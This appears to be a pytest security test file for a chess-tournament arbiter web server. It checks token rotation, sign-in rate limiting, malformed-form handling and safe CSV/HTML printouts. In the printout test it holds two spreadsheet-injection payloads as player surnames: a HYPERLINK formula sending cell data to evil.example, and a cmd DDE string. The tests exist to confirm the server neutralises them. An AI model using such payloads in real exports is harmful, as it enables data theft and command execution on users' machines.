"""Issue 35, as an attacker and as a bad day would try it: the rotated token reaches the
desk, sign-in guessing is limited while the right token never is, hostile query and form
input is a 400 naming what is wrong, and the printouts and the cookie are safe to open."""

from __future__ import annotations

import csv
import io
import logging
import re
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from click.testing import CliRunner

from server.cli import main
from server.cli.serve import token_file_of
from server.http import keys
from server.http.app import create_app
from server.settings import hash_token
from tests.server.http.support import TOKEN, Api, Client, make_settings
from tests.server.http.test_pages import open_tournament, text

FORM = "application/x-www-form-urlencoded"


async def desk_client(aiohttp_client: Any, tmp_path: Path, **overrides: Any) -> Api:
    """A server whose token digest is kept in the file ``arbiter token --rotate`` writes,
    with the ``open`` tournament paired."""
    db = tmp_path / "arbiter.db"
    token_file_of(db).write_text(hash_token(TOKEN) + "\n")
    settings = make_settings(db, token_digest_file=str(token_file_of(db)), **overrides)
    api = Api(await aiohttp_client(create_app(settings)))
    await open_tournament(api)
    return api


async def sign_in(client: Client, token: str) -> int:
    async with client.post(
        "/signin", data={"token": token, "next": "/t/open/desk"}, allow_redirects=False
    ) as response:
        return response.status


async def desk_csrf(client: Client) -> str | None:
    """The desk's CSRF token, or ``None`` when the desk sends to the sign-in page."""
    status, body, _ = await text(client, "/t/open/desk")
    if status == 303:
        return None
    match = re.search(r'name="csrf" value="([^"]+)"', body)
    assert match is not None
    return match.group(1)


def rotate(db: Path) -> str:
    result = CliRunner().invoke(main, ["token", "--rotate", "--db", str(db)])
    assert result.exit_code == 0, result.output
    return result.output.split("keep it): ")[1].split()[0]


# -- 1: the rotated token reaches the desk ------------------------------------------------


async def test_a_rotated_token_is_the_only_one_the_desk_and_the_api_take(
    aiohttp_client: Any, tmp_path: Path
) -> None:
    api = await desk_client(aiohttp_client, tmp_path)
    assert await sign_in(api.client, TOKEN) == 303
    assert await desk_csrf(api.client) is not None
    new = rotate(tmp_path / "arbiter.db")

    assert await desk_csrf(api.client) is None  # the session opened with the old token ended
    assert await sign_in(api.client, TOKEN) == 401
    status, problem = await api.post(
        "/tournaments/open/rounds/1/boards/1/result", {"result": "1-0"}
    )
    assert status == 401 and problem["detail"].startswith("the bearer token is not this server's")

    assert await sign_in(api.client, new) == 303
    csrf = await desk_csrf(api.client)
    assert csrf is not None
    form = {"csrf": csrf, "round": "1", "board": "1", "result": "1-0"}
    async with api.client.post("/t/open/desk/result", data=form) as response:
        assert response.status == 200 and "Board 1: 1-0 saved." in await response.text()
    status, _ = await api.post(
        "/tournaments/open/rounds/1/boards/2/result", {"result": "0-1"},
        headers={"Authorization": f"Bearer {new}"}, version="*",
    )  # fmt: skip
    assert status == 201
    _, round_ = await api.get("/tournaments/open/rounds/1")
    assert [board["result"] for board in round_["boards"]] == ["1-0", "0-1"]


# -- 2: guessing is limited, the right token never ----------------------------------------


async def test_desk_sign_in_guesses_are_limited_per_address(
    aiohttp_client: Any, tmp_path: Path
) -> None:
    api = await desk_client(aiohttp_client, tmp_path)
    statuses = [await sign_in(api.client, f"guess-{n}") for n in range(12)]
    assert statuses == [401] * 10 + [429] * 2
    async with api.client.post("/signin", data={"token": "guess"}) as response:
        assert response.status == 429 and int(response.headers["Retry-After"]) >= 1
        assert "Too many wrong tokens" in await response.text()
    # The limit is the API's too: the same address's bearer guesses wait as well.
    status, problem = await api.post(
        "/tournaments/open/players", {"surname": "X"}, headers={"Authorization": "Bearer guess"}
    )
    assert (status, problem["type"]) == (429, "/problems/too-many-failed-authentications")
    # The arbiter at the same address is let in all the while, at the desk and the API.
    assert await sign_in(api.client, TOKEN) == 303
    status, _ = await api.post("/tournaments/open/players", {"surname": "Late"})
    assert status == 201


async def test_guesses_from_many_addresses_are_limited_together(client: Client) -> None:
    failures = client.app[keys.FAILED_AUTH]
    for n in range(failures.overall_limit):
        failures.failed(f"10.0.{n // 256}.{n % 256}")
    async with client.post("/signin", data={"token": "guess"}) as response:
        assert response.status == 429
    async with client.post("/signin", data={"token": TOKEN}, allow_redirects=False) as response:
        assert response.status == 303


# -- 5: no 500 for hostile input ----------------------------------------------------------


async def test_an_event_position_past_the_range_is_a_bad_request(api: Api) -> None:
    await open_tournament(api, pair=False)
    for after in (2**63, 2**63 - 1 + 1, 10**40):
        status, problem = await api.get(f"/tournaments/open/events?after={after}")
        assert (status, problem["type"]) == (400, "/problems/invalid-query"), problem
        assert problem["errors"][0]["parameter"] == "after"
    status, page = await api.get(f"/tournaments/open/events?after={2**63 - 1}")
    assert status == 200 and page["events"] == []


@pytest.mark.parametrize("search", ["9" * 40, "1234567890", "²", "١٢٣"])
async def test_a_number_no_fide_id_can_be_finds_nobody(api: Api, search: str) -> None:
    """The schema allows any one-line search up to 100 characters (issue 35): digits no
    FIDE id can be are never taken as an id, and name nobody."""
    status, found = await api.get("/players", params={"search": search})
    assert (status, found["players"]) == (200, []), found


async def test_an_unbounded_search_is_a_bad_request(api: Api) -> None:
    status, problem = await api.get("/players", params={"search": "a" * 101})
    assert (status, problem["errors"][0]["parameter"]) == (400, "search")
    status, found = await api.get("/players", params={"search": "123456789"})
    assert status == 200 and found["players"] == []


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (b'--xx\r\nContent-Disposition: form-data; name="token"\r\n\r\nabc',
         "multipart/form-data; boundary=xx"),
        (b"garbage", "multipart/form-data"),
        (b"--xx\r\nbad header line\r\n\r\nabc\r\n--xx--\r\n", "multipart/form-data; boundary=xx"),
        (b"token=abc", f"{FORM}; charset=no-such-charset"),
        (b"token=\xff\xfe", FORM),
    ],
)  # fmt: skip
async def test_a_malformed_form_is_a_bad_request(
    aiohttp_client: Any, tmp_path: Path, body: bytes, content_type: str
) -> None:
    api = await desk_client(aiohttp_client, tmp_path)
    for path in ("/signin", "/t/open/desk/result", "/signout"):
        async with api.client.post(
            path, data=body, headers={"Content-Type": content_type}
        ) as response:
            problem = await response.json()
            assert (response.status, problem["title"]) == (400, "Bad Request"), problem
            assert problem["detail"].startswith("the form could not be read")
        assert await sign_in(api.client, TOKEN) == 303  # then the forms behind the sign-in
    _, round_ = await api.get("/tournaments/open/rounds/1")
    assert [board["result"] for board in round_["boards"]] == [None, None]


# -- 6: regulations are bounded as at creation --------------------------------------------


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"tiebreak_rules": "½"}, "tiebreak_rules"),
        ({"tiebreak_rules": "2026" * 1000}, "tiebreak_rules"),
        ({"tiebreaks": "BH " * 100_000, "tiebreak_rules": "2026"}, "tiebreaks"),
        ({"acceleration": "b" * 100_000}, "acceleration"),
        ({"avoid_same_club": True, "reason": "r" * 100_000}, "reason"),
        ({"tiebreaks": "BH\nSB", "tiebreak_rules": "2026"}, "tiebreaks"),
    ],
)
async def test_a_settings_change_is_bounded_as_the_regulations_are(
    api: Api, change: dict[str, Any], field: str
) -> None:
    await open_tournament(api, pair=False)
    _, before = await api.get("/tournaments/open")
    status, problem = await api.post("/tournaments/open/settings", change)
    assert (status, problem["type"]) == (422, "/problems/invalid-body"), problem
    assert [error["pointer"] for error in problem["errors"]] == [f"/{field}"], problem
    _, after = await api.get("/tournaments/open")
    assert after == before


async def test_what_a_settings_change_stores_fits_the_tournaments_schema(api: Api) -> None:
    await open_tournament(api, pair=False)
    change = {"tiebreaks": "BH/C1 SB", "tiebreak_rules": "2024", "avoid_same_club": True}
    status, _ = await api.post("/tournaments/open/settings", {**change, "reason": "R"})
    assert status == 200
    _, tournament = await api.get("/tournaments/open")
    assert {name: tournament["regulations"][name] for name in change} == change


# -- 7: printouts, logs and the cookie ----------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


async def test_csv_printouts_run_no_formula_and_html_ones_no_script(api: Api) -> None:
    await open_tournament(api, pair=False)
    for surname in (FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0"):
        status, _ = await api.post("/tournaments/open/players", {"surname": surname})
        assert status == 201
    assert (await api.post("/tournaments/open/rounds"))[0] == 201
    for path in (
        "/tournaments/open/rounds/1/pairings",
        "/tournaments/open/rounds/1/results",
        "/tournaments/open/standings/printout",
        "/tournaments/open/crosstable/printout",
    ):
        async with api.client.get(path, params={"format": "csv"}) as response:
            assert response.status == 200, path
            cells = [cell for row in csv.reader(io.StringIO(await response.text())) for cell in row]
        assert f"'{FORMULA}" in cells, path
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")], path
        async with api.client.get(path, params={"format": "html"}) as response:
            assert response.status == 200, path
            policy = response.headers["Content-Security-Policy"]
            assert "default-src 'none'" in policy and "script" not in policy, path
            assert response.headers["X-Content-Type-Options"] == "nosniff"


async def test_the_access_line_has_the_status_the_client_got(
    client: Client, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.INFO, logger="arbiter.access"):
        answers = []
        for path in ("/static/no-such.css", "/static/arbiter.css", "/t/open/desk"):
            async with client.get(path, allow_redirects=False) as response:
                answers.append((path, response.status))
        async with client.get("/static/arbiter.css") as response:
            modified = response.headers["Last-Modified"]
        async with client.get(
            "/static/arbiter.css", headers={"If-Modified-Since": modified}
        ) as response:
            answers.append(("/static/arbiter.css", response.status))
    assert answers == [
        ("/static/no-such.css", 404), ("/static/arbiter.css", 200), ("/t/open/desk", 303),
        ("/static/arbiter.css", 304),
    ]  # fmt: skip
    lines = [(r.path, r.status) for r in caplog.records if r.name == "arbiter.access"]  # type: ignore[attr-defined]
    assert lines == [*answers[:3], ("/static/arbiter.css", 200), *answers[3:]]


@pytest.mark.parametrize(("behind_tls_proxy", "secure"), [(False, False), (True, True)])
async def test_the_session_cookie_is_secure_behind_a_tls_proxy(
    aiohttp_client: Any, tmp_path: Path, behind_tls_proxy: bool, secure: bool
) -> None:
    settings = make_settings(tmp_path / "arbiter.db", behind_tls_proxy=behind_tls_proxy)
    client = await aiohttp_client(create_app(settings))
    async with client.post("/signin", data={"token": TOKEN}, allow_redirects=False) as response:
        assert response.status == 303
        cookie = response.cookies["arbiter_session"]
    assert bool(cookie["secure"]) is secure
    assert cookie["httponly"] and cookie["samesite"] == "Strict"


def test_serve_tells_the_app_it_sits_behind_a_tls_proxy(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    served: list[web.Application] = []
    monkeypatch.setattr(web, "run_app", lambda app, **options: served.append(app))
    for flag in ([], ["--behind-tls-proxy"]):
        result = CliRunner().invoke(main, ["serve", "--db", str(tmp_path / "a.db"), *flag])
        assert result.exit_code == 0, result.output
    assert [app[keys.SETTINGS].behind_tls_proxy for app in served] == [False, True]
